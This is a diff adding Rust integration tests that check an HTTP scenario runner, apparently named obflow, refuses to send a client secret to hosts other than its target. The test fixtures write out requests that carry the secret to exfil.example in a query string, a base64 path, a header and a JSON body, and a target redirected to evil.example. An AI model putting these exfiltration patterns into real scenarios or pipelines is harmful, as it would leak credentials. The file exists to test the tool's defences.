@@ -277,3 +277,106 @@ fn a_target_without_the_mock_skips_what_only_the_mock_can_run_and_runs_the_rest(
         out.stdout
     );
 }
+
+const CREDENTIALS: [(&str, &str); 2] = [
+    ("OBFLOW_CLIENT_ID", "ci-client"),
+    ("OBFLOW_CLIENT_SECRET", "ci-secret-8f2a61d0"),
+];
+
+/// A scenario from a pull request cannot send a secret off the machine: a request that
+/// carries one (the environment's client secret here, in any encoding) to a host that is
+/// neither the target's TrueLayer environment nor loopback is refused before it is sent.
+#[test]
+fn a_secret_is_never_sent_to_a_host_that_is_not_the_target() {
+    let project = Project::new();
+    for (file, url) in [
+        (
+            "a_query.yaml",
+            "http://exfil.example/?s={{ env.OBFLOW_CLIENT_SECRET }}",
+        ),
+        (
+            "b_base64.yaml",
+            "http://exfil.example/{{ env.OBFLOW_CLIENT_SECRET | b64encode }}",
+        ),
+    ] {
+        project.write(
+            file,
+            &format!("name: {file}\nsteps:\n  - request: {{ url: \"{url}\" }}\n"),
+        );
+    }
+    project.write(
+        "c_header.yaml",
+        "name: header\nsteps:\n  - request:\n      url: https://exfil.example/\n      headers: { x-key: \"{{ env.OBFLOW_CLIENT_SECRET }}\" }\n",
+    );
+    project.write(
+        "d_body.yaml",
+        "name: body\nsteps:\n  - request:\n      method: POST\n      url: https://exfil.example/\n      json: { stolen: [\"{{ env.OBFLOW_CLIENT_SECRET }}\"] }\n",
+    );
+    let out = project.obflow_env(&["run", ".", "--target", "sandbox"], &CREDENTIALS);
+    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
+    assert!(out.stdout.contains("0 passed, 4 failed"), "{}", out.stdout);
+    for at in [
+        "a_query.yaml:3:16",
+        "b_base64.yaml:3:16",
+        "c_header.yaml:4:7",
+        "d_body.yaml:4:7",
+    ] {
+        let refused = out.stdout.split("FAIL  ").any(|block| {
+            block.contains(at)
+                && block.contains("request refused: it carries a secret, and `exfil.example` is neither this run's target (`sandbox`) nor this machine")
+        });
+        assert!(refused, "{at}: {}", out.stdout);
+    }
+    assert!(
+        out.stdout.contains("pass --allow-host exfil.example"),
+        "{}",
+        out.stdout
+    );
+    assert!(!out.stdout.contains("ci-secret-8f2a61d0"), "{}", out.stdout);
+}
+
+/// A target the project file declares receives the environment's credentials and every
+/// secret: one that is neither TrueLayer's nor this machine's is trusted only when the
+/// command line says so, and redefining `sandbox` in a pull request moves no credentials.
+#[test]
+fn a_project_target_off_this_machine_and_off_truelayer_needs_allow_host() {
+    let project = Project::new();
+    project.write(
+        "obflow.yaml",
+        "targets:\n  sandbox:\n    auth_url: https://evil.example/\n",
+    );
+    project.write("a.yaml", "name: a\nsteps:\n  - exchange: { code: abc }\n");
+    let out = project.obflow_env(&["run", "a.yaml", "--target", "sandbox"], &CREDENTIALS);
+    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
+    assert!(
+        out.stderr.contains(
+            "target `sandbox` is at `evil.example`, which is neither TrueLayer's nor this machine"
+        ),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stderr.contains("pass --allow-host evil.example"),
+        "{}",
+        out.stderr
+    );
+    // Allowed from the command line, it is used (a dry run: nothing is sent).
+    let out = project.obflow_env(
+        &[
+            "run",
+            "a.yaml",
+            "--target",
+            "sandbox",
+            "--allow-host",
+            "evil.example",
+            "--dry-run",
+        ],
+        &CREDENTIALS,
+    );
+    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
+    assert!(
+        out.stdout.contains("https://evil.example/connect/token"),
+        "{}",
+        out.stdout
+    );
+}
